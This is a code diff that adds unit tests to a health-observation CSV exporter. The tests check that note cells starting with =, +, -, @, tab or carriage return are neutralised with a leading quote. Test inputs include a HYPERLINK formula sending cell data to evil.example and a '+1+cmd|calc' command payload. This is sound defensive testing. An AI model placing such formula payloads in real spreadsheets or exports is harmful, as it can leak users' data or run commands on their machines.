@@ -202,6 +202,53 @@ describe('CSV export', () => {
   });
 });
 
+describe('CSV export opened in a spreadsheet (formula injection)', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+  const noted = (note: string): NormalisedObservation => ({ ...(SAMPLES[0] as NormalisedObservation), note });
+  // The raw note cell as written: the row minus the cells before and after it.
+  const noteCell = (note: string) =>
+    formatCsvRow(noted(note)).slice(`heart-rate,72,/min,${at(1)},,,`.length, -',device'.length);
+
+  it.each([
+    ['a formula', HYPERLINK, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    ['a plus', '+1+cmd|calc', "'+1+cmd|calc"],
+    ['a minus', '-2+3', "'-2+3"],
+    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['a tab', '\t=1+1', "'\t=1+1"],
+    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
+    ['a quote already', "'=1+1", "''=1+1"],
+  ])('puts a quote in front of a note starting with %s', (_label, note, cell) => {
+    expect(noteCell(note)).toBe(cell);
+  });
+
+  it('leaves other text and numbers, negative ones included, as they are', () => {
+    expect(noteCell('after a run = tired')).toBe('after a run = tired');
+    expect(noteCell("it's fine")).toBe("it's fine");
+    const negative = { ...(SAMPLES[0] as NormalisedObservation), value: -3.5 } as NormalisedObservation;
+    expect(formatCsvRow(negative).split(',')[1]).toBe('-3.5');
+  });
+
+  it('never writes a text cell a spreadsheet would evaluate', () => {
+    // Stored notes are trimmed, so none starts with a tab or a CR; the cells above cover those.
+    const notes = [HYPERLINK, '+1', '-1+1', '@x', "'=1", "''+1", '==', '=', '-', "'"];
+    for (const note of notes) {
+      const parsed = parseCsvObservations(toCsv([noted(note)]));
+      // Read the raw cells back as a spreadsheet would see them: nothing starts a formula.
+      const line = toCsv([noted(note)]).split('\r\n')[1]!;
+      expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+      expect(observationsOf(parsed)).toEqual([noted(note)]);
+    }
+  });
+
+  it('reads a guard a person typed in front of a formula as the guard, and a lone quote as text', () => {
+    const header = CSV_COLUMNS.join(',');
+    const parsed = parseCsvObservations(
+      `${header}\r\nsteps,10,/d,${at(1)},,,'=1+1,csv\r\nsteps,10,/d,${at(2)},,,'ok,csv\r\n`,
+    );
+    expect(observationsOf(parsed).map((o) => o.note)).toEqual(['=1+1', "'ok"]);
+  });
+});
+
 describe('round trip: export, then upload again', () => {
   it('gives back the same observations through FHIR (as source fhir)', () => {
     const body = JSON.stringify(toFhirBundle(SAMPLES, MEMBER, NOW));
